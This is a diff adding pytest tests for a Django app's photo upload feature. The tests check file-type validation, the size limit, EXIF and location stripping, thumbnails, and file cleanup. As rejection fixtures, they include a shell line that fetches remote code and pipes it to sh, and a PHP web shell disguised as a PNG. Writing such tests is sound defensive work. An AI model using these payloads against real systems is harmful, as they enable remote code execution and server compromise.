@@ -1,0 +1,134 @@
+import io
+from pathlib import Path
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.urls import reverse
+from PIL import ExifTags, Image
+
+from training import photos, services
+from training.models import PhotoPair
+
+from .factories import image_bytes, make_photo_pair, upload
+
+SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
+
+
+def stored_files(media_root: Path) -> list[Path]:
+    return [p for p in media_root.rglob("*") if p.is_file()] if media_root.exists() else []
+
+
+def post_pair(client, enterprise, before, after=None):
+    data = {"area": "Cutting section", "caption": "Fabric rolls", "before": before}
+    if after is not None:
+        data["after"] = after
+    return client.post(reverse("training:photo_new", args=[enterprise.pk]), data)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("name", "content", "content_type"),
+    [
+        ("cutting.jpg", SCRIPT, "image/jpeg"),
+        ("cutting.png", b"<?php system($_GET['c']); ?>", "image/png"),
+        ("cutting.jpg", b"%PDF-1.4\n1 0 obj<<>>endobj\n", "image/jpeg"),
+        ("cutting.gif", image_bytes("GIF", gps=False), "image/gif"),  # a real image, but not an accepted format
+        ("cutting.jpg", image_bytes()[:200], "image/jpeg"),  # a truncated JPEG
+    ],
+)
+def test_a_disguised_or_unaccepted_file_is_refused_and_nothing_is_stored(
+    client, consultant, enterprise, private_media, name, content, content_type
+):
+    client.force_login(consultant)
+    response = post_pair(client, enterprise, upload(name, content, content_type))
+    assert response.status_code == 200
+    assert "not a JPEG, PNG or WebP photo" in response.content.decode()
+    assert PhotoPair.objects.count() == 0
+    assert stored_files(private_media) == []
+
+
+@pytest.mark.django_db
+def test_a_good_before_photo_with_a_disguised_after_photo_stores_nothing(client, consultant, enterprise, private_media):
+    client.force_login(consultant)
+    response = post_pair(client, enterprise, upload("before.jpg"), upload("after.jpg", SCRIPT))
+    assert response.status_code == 200
+    assert PhotoPair.objects.count() == 0 and stored_files(private_media) == []
+
+
+@pytest.mark.django_db
+def test_a_file_over_the_size_cap_is_refused(client, consultant, enterprise, private_media, monkeypatch):
+    monkeypatch.setattr(photos, "MAX_UPLOAD_BYTES", 1000)
+    client.force_login(consultant)
+    response = post_pair(client, enterprise, upload("big.jpg", image_bytes(size=(400, 400))))
+    assert "larger than" in response.content.decode()
+    assert PhotoPair.objects.count() == 0 and stored_files(private_media) == []
+
+
+@pytest.mark.django_db
+def test_the_stored_photo_has_no_exif_or_location_and_a_thumbnail(client, consultant, enterprise, private_media):
+    original = image_bytes(size=(1200, 900))
+    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the upload has a location
+    client.force_login(consultant)
+    response = post_pair(client, enterprise, upload("before.jpg", original))
+    assert response.status_code == 302
+    pair = PhotoPair.objects.get()
+    root = Path(private_media)
+    assert pair.before.name.startswith(f"training/photos/{enterprise.pk}/")
+    with Image.open(root / pair.before.name) as stored:
+        assert stored.format == "JPEG" and stored.size == (1200, 900)
+        assert len(stored.getexif()) == 0
+        assert "exif" not in stored.info
+    with Image.open(root / pair.before_thumb.name) as thumb:
+        assert max(thumb.size) == photos.THUMB_SIDE
+    assert not pair.after
+    # Nothing under the static files.
+    assert "static" not in str(root / pair.before.name)
+
+
+@pytest.mark.django_db
+def test_png_and_webp_are_accepted_and_served_with_their_type(client, consultant, enterprise):
+    client.force_login(consultant)
+    post_pair(
+        client,
+        enterprise,
+        upload("b.webp", image_bytes("WEBP"), "image/webp"),
+        upload("a.png", image_bytes("PNG"), "image/png"),
+    )
+    pair = PhotoPair.objects.get()
+    response = client.get(reverse("training:photo_file", args=[pair.pk, "before"]))
+    assert response.status_code == 200 and response["Content-Type"] == "image/webp"
+    assert response["Cache-Control"].startswith("private")
+    response = client.get(reverse("training:photo_file", args=[pair.pk, "after-thumb"]))
+    assert response["Content-Type"] == "image/png"
+    assert Image.open(io.BytesIO(b"".join(response.streaming_content))).format == "PNG"
+
+
+@pytest.mark.django_db
+def test_the_after_photo_is_added_later_and_the_page_shows_the_pair_side_by_side(client, consultant, enterprise):
+    pair = make_photo_pair(enterprise, consultant, with_after=False)
+    client.force_login(consultant)
+    page = client.get(reverse("training:enterprise_detail", args=[enterprise.pk])).content.decode()
+    assert "No after photo yet." in page
+    response = client.post(reverse("training:photo_after", args=[pair.pk]), {"after": upload("after.jpg")})
+    assert response.status_code == 302
+    pair.refresh_from_db()
+    assert pair.after and pair.after_taken_on
+    page = client.get(reverse("training:enterprise_detail", args=[enterprise.pk])).content.decode()
+    assert reverse("training:photo_file", args=[pair.pk, "before-thumb"]) in page
+    assert reverse("training:photo_file", args=[pair.pk, "after-thumb"]) in page
+
+
+@pytest.mark.django_db
+def test_files_are_removed_if_the_row_cannot_be_saved(consultant, enterprise, private_media, monkeypatch):
+    def broken_create(**kwargs):
+        raise RuntimeError("database went away")
+
+    monkeypatch.setattr(PhotoPair.objects, "create", broken_create)
+    with pytest.raises(RuntimeError):
+        services.store_photo_pair(enterprise, area="Store", caption="", before=upload(), by=consultant)
+    assert stored_files(private_media) == []
+
+
+def test_clean_photo_refuses_a_script_without_touching_disk():
+    with pytest.raises(ValidationError):
+        photos.clean_photo(upload("x.jpg", SCRIPT))
